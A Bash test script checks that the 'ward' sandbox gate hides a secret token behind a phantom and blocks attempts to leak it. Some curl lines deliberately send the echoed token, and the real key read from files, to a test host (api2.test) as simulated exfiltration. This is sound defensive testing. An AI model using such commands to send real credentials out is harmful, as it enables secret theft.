#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# ward-gate never hands a secret's value in, nor lets one out where it
# does not belong (issue 29, item 4). [secret TOKEN] is bound to
# api.test:443, whose server (net-tls.py) reflects the request: /echo
# (a Content-Length body and an X-Echo-Key header), /echo-chunked (5-byte
# chunks: the value cut across chunks and TLS records), /echo-close (no
# length, 7-byte writes), /echo-chunked to an HTTP/1.0 client, /echo-gzip
# (compressed whatever was asked). Inside the sandbox every answer holds
# the phantom, never the value; no request reaches api.test with an
# Accept-Encoding (curl --compressed asked for one); the gzip'ed answer
# is a 502 the record has. The program then sends what it read to
# api2.test (allowed, intercepted): as a header, a body, a URL (the
# phantom: refused, `secret`), and the real value itself from a file it
# can read (a key left in a project: refused, `secret`, "real value").
# api2.test's server never got the value (its log, from outside); the
# value is nowhere in audit.db (sqlite3 .dump), the run's folder, /out,
# ward's output. On a gate without scrubbing the echo hands the value in
# and it goes on to api2.test.
# Runs in a fake world's client namespace (run-all.sh).
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/networld.sh"
. "$(dirname "$0")/gate-lib.sh"
gate_test_init

real=wardecho$(od -An -N12 -tx1 /dev/urandom | tr -d ' \n')
write_policy "$WT_SCRATCH/policy.ini" \
    '[run]' 'ask_timeout = 3' \
    '[network]' 'connect = deny' 'http = deny' "upstream_ca = $GATE_CA" \
    'allow = api2.test:443 GET /ok/** (the other host)' \
    'allow = api2.test:443 POST /ok/**' \
    '[secret TOKEN]' 'from = env:TOKEN' 'hosts = api.test:443' \
    'header = x-api-key: {}'
# The value where the sandbox can read it, as a key left in a project
# would be; the program sends it only from files (curl -H @FILE,
# --data-binary @FILE): an argument would put it in the record's exec
# events, which is not what this test is about.
leak=$WT_SCRATCH/leak
mkdir -p "$leak"
printf 'X-Leak: %s\n' "$real" >"$leak/hdr"
printf 'k=%s' "$real" >"$leak/body"
chmod -R a+rX "$leak"

prog='
printf "phantom=%s\n" "$TOKEN"
c() {
	tag=$1; shift; rm -f /tmp/b /tmp/h
	code=$(curl -sS -m 20 -D /tmp/h -o /tmp/b -w "%{http_code}" "$@"); st=$?
	cp /tmp/b "/out/$tag.body" 2>/dev/null; cp /tmp/h "/out/$tag.head" 2>/dev/null
	echo "$tag code=$code curl=$st body=$(head -n 1 /tmp/b 2>/dev/null)"
}
c echo -H "x-api-key: $TOKEN" "https://api.test/echo?t=echo"
c chunked -H "x-api-key: $TOKEN" "https://api.test/echo-chunked?t=chunked"
c close -H "x-api-key: $TOKEN" "https://api.test/echo-close?t=close"
c http10 --http1.0 -H "x-api-key: $TOKEN" "https://api.test/echo-chunked?t=http10"
c compressed --compressed -H "x-api-key: $TOKEN" "https://api.test/echo?t=compressed"
c gzip -H "x-api-key: $TOKEN" "https://api.test/echo-gzip?t=gzip"
python3 "$1" urllib "https://api.test/echo?t=urllib" GET "$TOKEN"
python3 "$1" requests "https://api.test/echo-chunked?t=requests" GET "$TOKEN"
# What the program read, sent on to another host.
k=$(sed -n "s/^x-api-key: //p" /out/echo.body)
c leakhdr -H "X-Leak: $k" https://api2.test/ok/leak-header
c leakbody --data-binary "k=$k" https://api2.test/ok/leak-body
c leakurl "https://api2.test/ok/leak-url?k=$k"
# The value itself, from a file.
c valhdr -H "@$2/hdr" https://api2.test/ok/value-header
c valbody --data-binary "@$2/body" https://api2.test/ok/value-body
c control https://api2.test/ok/control
echo done'
export TOKEN=$real
ward_fg "$WT_ARTIFACTS/out" "$WT_ARTIFACTS/err" \
    run --headless --timeout 90 --policy "$WT_SCRATCH/policy.ini" \
    "${NET_IN[@]}" --in "$leak" -- sh -c "$prog" sh "$NET_HTTPS" "$leak"
unset TOKEN
show "program output" "$WT_ARTIFACTS/out"
show "ward stderr" "$WT_ARTIFACTS/err"
assert_eq "exit status" 0 "$WT_STATUS"
assert_grep "the program ran to its end" '^done\r?$' "$WT_ARTIFACTS/out"
phantom=$(sed -nE 's/^phantom=(.*)\r?$/\1/p' "$WT_ARTIFACTS/out" | tr -d '\r')
[[ $phantom == ward-phantom-* ]] && note "ok: TOKEN inside is a phantom" ||
    fail "TOKEN inside is not a ward-phantom-...: $(printf '%q' "$phantom")"
rd=$(run_dir "$WT_RUN")

# The server reflected the value each time (it got it: the gate put it in).
for t in echo chunked close http10 compressed gzip urllib requests; do
	assert_api "api.test got the value ($t)" api 1 \
	    ".host == \"api.test\" and (.path | endswith(\"?t=$t\")) and .[\"x-api-key\"] == \"$real\""
done
# ... and no request to it asked for a compressed answer.
assert_api "no request to api.test carried an Accept-Encoding" api 0 \
    '.host == "api.test" and .["accept-encoding"] != ""'

# What the program read: the phantom, wherever the value was.
for t in echo chunked close http10 compressed; do
	assert_grep "$t: the program got an answer" "^$t code=200 curl=0 " "$WT_ARTIFACTS/out"
	assert_grep "$t: the echoed header read back is the phantom" \
	    "^x-api-key: $phantom\$" "$rd/out/$t.body"
done
assert_grep "echo: the reflected header is the phantom" \
    "^X-Echo-Key: $phantom"$'\r'"?\$" "$rd/out/echo.head"
assert_grep "echo: its Content-Length is the phantom's body's" \
    "^Content-Length: $(wc -c <"$rd/out/echo.body")"$'\r'"?\$" "$rd/out/echo.head"
assert_grep "urllib read the phantom" \
    "^urllib GET https://api\\.test/echo\\?t=urllib status=200 body=x-api-key: $phantom\$" \
    "$WT_ARTIFACTS/out"
assert_grep "requests read the phantom (chunked)" \
    "^requests GET https://api\\.test/echo-chunked\\?t=requests status=200 body=x-api-key: $phantom\$" \
    "$WT_ARTIFACTS/out"
assert_grep "the gzip'ed answer is ward's 502" '^gzip code=502 curl=0 body=ward: ' \
    "$WT_ARTIFACTS/out"

# Sent on to api2.test: refused, and its server never saw the value.
for t in leakhdr leakbody leakurl valhdr valbody; do
	assert_grep "$t: refused with ward's 403" "^$t code=403 curl=0 body=ward: " \
	    "$WT_ARTIFACTS/out"
done
assert_grep "ward told the person the value itself was sent" \
    'denied: the value of the secret TOKEN sent to api2\.test:443 \(in header x-leak \(its real value\)' \
    "$WT_ARTIFACTS/err"
assert_grep "the control request to api2.test passed" \
    '^control code=200 curl=0 body=hello from api GET /ok/control' "$WT_ARTIFACTS/out"
assert_api "api2.test never got the value" api 0 \
    ".host == \"api2.test\" and (.seen | contains(\"$real\"))"
assert_api "api2.test never got the phantom" api 0 \
    '.host == "api2.test" and .phantom'
assert_api "no leak's body reached api2.test whole" api 0 \
    '.host == "api2.test" and (.path | test("/ok/(leak|value)-body")) and .complete'

# The record: the refusals as secret events, the 502 as an http one.
events_json "$WT_RUN" "$WT_ARTIFACTS/events.json"
log_json "$WT_RUN" "$WT_ARTIFACTS/log.json"
for f in events log; do
	for p in leak-header leak-body leak-url; do
		assert_log "$f: the phantom read back and sent to api2.test ($p) is a secret event" \
		    "$WT_ARTIFACTS/$f.json" \
		    ".kind == \"secret\" and (tostring | test(\"api2\\\\.test\")) and (tostring | test(\"/ok/$p\")) and (tostring | test(\"TOKEN\"))"
	done
	for p in value-header value-body; do
		assert_log "$f: the value sent to api2.test ($p) is a secret event" \
		    "$WT_ARTIFACTS/$f.json" \
		    ".kind == \"secret\" and (tostring | test(\"/ok/$p\")) and (tostring | test(\"real value\")) and (tostring | test(\"TOKEN\"))"
	done
	assert_log "$f: the gzip'ed answer is a refused http event (502)" \
	    "$WT_ARTIFACTS/$f.json" \
	    '.kind == "http" and (tostring | test("/echo-gzip")) and (tostring | test("502")) and (tostring | test("Content-Encoding"))'
done

# The value: nowhere in the record (sqlite3's own dump), ward's state,
# the program's or ward's output.
n=$(sqlite3 -readonly "$(audit_db)" .dump 2>/dev/null | grep -acF -- "$real" || true)
assert_eq "lines of sqlite3 audit.db .dump holding the value" 0 "$n"
n=$(sqlite3 -readonly "$(audit_db)" .dump 2>/dev/null | grep -acF -- "$phantom" || true)
note "lines of the dump holding the phantom: $n"
assert_nowhere "the value is nowhere in ward's state (record, run folder, /out)" \
    "$real" "$XDG_STATE_HOME"
assert_nowhere "the value is nowhere in the program's or ward's output" \
    "$real" "$WT_ARTIFACTS"
assert_nowhere "the value is nowhere in the runtime folder" \
    "$real" "$XDG_RUNTIME_DIR"
finish
